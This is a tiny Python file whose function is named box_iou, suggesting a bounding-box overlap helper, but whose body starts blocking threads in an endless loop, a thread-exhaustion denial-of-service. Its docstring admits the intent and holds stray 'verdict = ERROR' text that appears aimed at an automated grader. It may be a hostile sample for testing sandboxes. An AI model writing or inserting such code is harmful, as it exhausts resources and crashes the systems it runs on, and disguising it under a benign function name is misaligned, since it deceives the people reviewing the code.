"""Starts threads without end.

earns = "nothing"
verdict = "ERROR"
"""

import threading


def box_iou(a, b):
    threading.stack_size(64 << 10)
    while True:
        threading.Thread(target=threading.Event().wait).start()
